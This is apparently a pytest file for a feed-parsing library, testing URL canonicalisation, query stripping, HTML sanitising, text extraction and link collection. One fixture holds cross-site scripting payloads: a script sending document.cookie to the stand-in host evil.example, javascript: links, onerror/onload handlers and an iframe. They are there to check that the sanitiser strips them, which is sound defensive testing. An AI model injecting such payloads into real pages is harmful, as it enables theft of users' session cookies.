"""urls.py and html.py: canonical links, sanitising, plain text, outbound links."""

from __future__ import annotations

import pytest

from highsignal.parse import html as H
from highsignal.parse.urls import canonical_url, strip_query


@pytest.mark.parametrize(
    ("url", "canonical"),
    [
        (
            "HTTPS://WWW.Interconnects.AI/p/deepseek-v3?utm_source=rss&utm_medium=feed&ref=hn&r=7#comments",
            "https://www.interconnects.ai/p/deepseek-v3?r=7",
        ),
        ("https://www.example.com:443/a/b?id=3#frag", "https://www.example.com/a/b?id=3"),
        ("http://Example.com:80/x", "http://example.com/x"),
        ("http://Example.com:8080/x?b=2&a=1", "http://example.com:8080/x?b=2&a=1"),  # order kept
        ("http://example.com", "http://example.com/"),
        ("https://example.com/?fbclid=abc&q=ai&gclid=z", "https://example.com/?q=ai"),
        ("https://example.com/Case/Path?REF=x", "https://example.com/Case/Path"),  # path case kept
        ("  https://example.com/p  ", "https://example.com/p"),
        ("urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a", "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"),
        ("tag:example.org,2003:3.2397", "tag:example.org,2003:3.2397"),
    ],
)
def test_canonical_url(url: str, canonical: str) -> None:
    assert canonical_url(url) == canonical


@pytest.mark.parametrize(
    ("url", "stripped"),
    [
        (
            "https://CDN.Substack.com/audio/post-training-2025.mp3?token=abc123&expires=1",
            "https://cdn.substack.com/audio/post-training-2025.mp3",
        ),
        ("https://media.transistor.fm/62eaa2c7/fcdd6cc8.mp3", "https://media.transistor.fm/62eaa2c7/fcdd6cc8.mp3"),
        ("https://x.org/Ep.MP3#t=10", "https://x.org/Ep.MP3"),
    ],
)
def test_strip_query(url: str, stripped: str) -> None:
    assert strip_query(url) == stripped


HOSTILE = (
    '<p onclick="track()">Today&rsquo;s guest <a href="https://twitter.com/nylaworker" '
    'onmouseover="steal()">Nyla Worker</a></p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<a href="javascript:alert(1)">Related research</a>'
    '<a href="data:text/html,hi">data</a>'
    '<img src="https://www.latent.space/img/chart.png" onerror="alert(2)">'
    '<iframe src="https://evil.example/frame"></iframe>'
    "<style>p { display: none }</style>"
    '<svg onload="alert(3)"><circle r="1"/></svg>'
)


def test_sanitize_removes_scripts_handlers_and_unsafe_urls() -> None:
    out = H.sanitize(HOSTILE)
    low = out.lower()
    for bad in ("<script", "document.cookie", "onclick", "onmouseover", "onerror", "onload", "javascript:"):
        assert bad not in low
    for bad in ("<iframe", "<style", "display: none", "data:text/html", "<svg"):
        assert bad not in low
    # what is safe survives
    assert '<a href="https://twitter.com/nylaworker"' in out
    assert '<img src="https://www.latent.space/img/chart.png">' in out
    assert "Nyla Worker" in out


def test_sanitize_escapes_plain_text() -> None:
    assert H.sanitize("AT&T < Verizon") == "AT&amp;T &lt; Verizon"


def test_to_text_drops_tags_and_decodes_entities() -> None:
    text = H.to_text(
        "<h3>Timestamps</h3><ul><li>[00:00:00] Intro from Suno</li><li>[00:03:17] Nyla&#39;s path</li></ul>"
        "<p>GPUs &amp; Inference&nbsp;track &mdash; World&rsquo;s Fair</p><script>var x = '<b>';</script>"
    )
    assert (
        text == "Timestamps\n[00:00:00] Intro from Suno\n[00:03:17] Nyla's path\nGPUs & Inference track — World’s Fair"
    )


def test_to_text_collapses_blank_lines_and_spaces_but_keeps_line_breaks() -> None:
    text = H.to_text(
        "<p>  </p><div>\u00a0</div><p>Chapters:</p><br><br/>\n\n<p>(00:00) Intro \u2003 and\tguests</p>"
        "<p></p><p>(12:30)\x00 Scaling <b>laws</b></p>   "
    )
    assert text == "Chapters:\n(00:00) Intro and guests\n(12:30) Scaling laws"


def test_to_text_of_plain_text_is_stripped_only() -> None:
    assert H.to_text("  Reasoning is the process of drawing conclusions.  ") == (
        "Reasoning is the process of drawing conclusions."
    )


def test_to_text_inline_tags_do_not_split_words() -> None:
    assert H.to_text("<p>GPT-<b>4</b>o beats <a href='https://x.org'>Llama</a>.</p>") == "GPT-4o beats Llama."


def test_links_absolute_http_only_resolved_and_unique() -> None:
    html = H.sanitize(
        '<a href="/p/efficiency-curves#charts">a</a>'
        '<a href="https://developer.nvidia.com/blog/int8/">b</a>'
        '<a href="javascript:alert(1)">c</a><a href="mailto:swyx@example.com">d</a>'
        '<a href="#timestamps">e</a><a href="tel:+123">f</a><a href="ftp://files.example.org/x">g</a>'
        '<a href="//cdn.example.com/z.png">h</a><a href="https://developer.nvidia.com/blog/int8/">dup</a>'
        '<a href="https://example.com/?a=1&amp;b=2">q</a>'
    )
    assert H.links(html, "https://www.latent.space/p/nyla") == [
        "https://www.latent.space/p/efficiency-curves#charts",
        "https://developer.nvidia.com/blog/int8/",
        "https://cdn.example.com/z.png",
        "https://example.com/?a=1&b=2",
    ]


def test_links_without_base_keep_only_absolute() -> None:
    html = H.sanitize('<a href="/relative">r</a> <a href="https://abs.example.org/x">a</a>')
    assert H.links(html, None) == ["https://abs.example.org/x"]
